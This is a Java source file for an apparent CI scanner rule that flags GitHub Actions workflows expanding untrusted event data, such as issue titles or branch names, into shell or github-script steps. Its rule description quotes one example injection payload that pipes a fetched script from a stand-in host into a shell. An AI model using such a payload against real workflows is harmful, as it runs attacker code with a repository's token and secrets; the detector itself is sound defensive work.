package dev.shipgate.scanner.ci.rules;

import dev.shipgate.core.model.Confidence;
import dev.shipgate.core.model.Fix;
import dev.shipgate.core.model.Rule;
import dev.shipgate.core.model.Severity;
import dev.shipgate.core.yaml.YamlFile;
import dev.shipgate.scanner.ci.CiFile;
import dev.shipgate.scanner.ci.CiRule;
import dev.shipgate.scanner.ci.Expressions;
import dev.shipgate.scanner.ci.Findings;
import dev.shipgate.scanner.ci.Workflow;
import java.util.HashSet;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import org.snakeyaml.engine.v2.nodes.Node;

/** {@code ${{ github.event.issue.title }}} and other attacker text expanded into a {@code run:} or github-script. */
public final class ScriptInjectionRule implements CiRule {

  public static final Rule RULE = Rule.builder("ci/github/script-injection", "ci")
      .title("Untrusted event data expanded into a script")
      .severity(Severity.HIGH)
      .confidence(Confidence.HIGH)
      .cwe("CWE-78", "CWE-94")
      .description("GitHub substitutes `${{ … }}` expressions into a `run:` script or an `actions/github-script` "
          + "`script:` before the shell or JavaScript runs, so text an outsider controls (issue and pull request titles "
          + "and bodies, comments, review bodies, branch names via `github.head_ref`, commit messages and author names) "
          + "becomes code: a title like `\"; curl evil.sh | sh #` runs with the job's token and secrets. Numbers, SHAs "
          + "and ids are not reported.")
      .fix("Pass the value through an environment variable: `env: { TITLE: ${{ github.event.issue.title }} }` and use "
          + "`\"$TITLE\"` in the script (in github-script, `process.env.TITLE`). `shipgate fix` makes this edit for "
          + "bash/sh `run:` scripts.")
      .tags("owasp-top10:A03:2021", "owasp-cicd:CICD-SEC-4", "ssdf:PW.5.1", "soc2:CC8.1", "iso27001:2022-A.8.28")
      .build();

  /** Events an outsider can fire whose workflows run with a write token or secrets. */
  private static final Set<String> PRIVILEGED = Set.of("pull_request_target", "workflow_run", "issues", "issue_comment",
      "discussion", "discussion_comment", "pull_request_review_comment");

  @Override
  public Rule rule() {
    return RULE;
  }

  @Override
  public void check(CiFile file, Findings out) {
    if (!file.isGithub()) {
      return;
    }
    Workflow w = file.workflow();
    YamlFile yaml = file.yaml();
    boolean privileged = w.triggeredByAny(PRIVILEGED);
    for (Workflow.Job job : w.jobs()) {
      for (Workflow.Step step : job.steps()) {
        Optional<Node> run = step.run();
        boolean script = false;
        if (run.isEmpty() && step.usesAction("actions/github-script")) {
          run = YamlFile.at(step.node(), "with", "script");
          script = true;
        }
        if (run.isEmpty()) {
          continue;
        }
        String src = yaml.source(run.get());
        List<Expressions.Expr> untrusted = Expressions.find(src).stream().filter(e -> e.untrusted().isPresent()).toList();
        if (untrusted.isEmpty()) {
          continue;
        }
        Optional<Fix> fix = script ? Optional.empty() : dev.shipgate.scanner.ci.EnvFix.of(step, run.get(), untrusted);
        int base = yaml.start(run.get());
        boolean first = true;
        Set<String> reported = new HashSet<>();
        for (Expressions.Expr e : untrusted) {
          int line = file.lineOf(base + e.start());
          if (!reported.add(line + ":" + e.body())) {
            continue;
          }
          String context = e.untrusted().orElseThrow();
          var b = out.at(RULE, line)
              .message("`${{ " + e.body() + " }}` expands attacker-controlled " + context + " into the "
                  + (script ? "github-script JavaScript" : "shell script") + " of " + where(job, step)
                  + (privileged ? " in a workflow outsiders can trigger with a privileged token" : ""))
              .contextKey(e.body());
          if (privileged) {
            b.severity(Severity.CRITICAL);
          }
          if (first && fix.isPresent()) {
            b.fix(fix.get());
          }
          first = false;
          out.report(b);
        }
      }
    }
  }

  static String where(Workflow.Job job, Workflow.Step step) {
    String name = step.get("name").flatMap(YamlFile::scalar).or(() -> step.get("id").flatMap(YamlFile::scalar))
        .map(n -> "step '" + n + "'").orElse("step " + (step.index() + 1));
    return job.key() == null ? name : name + " of job '" + job.id() + "'";
  }
}
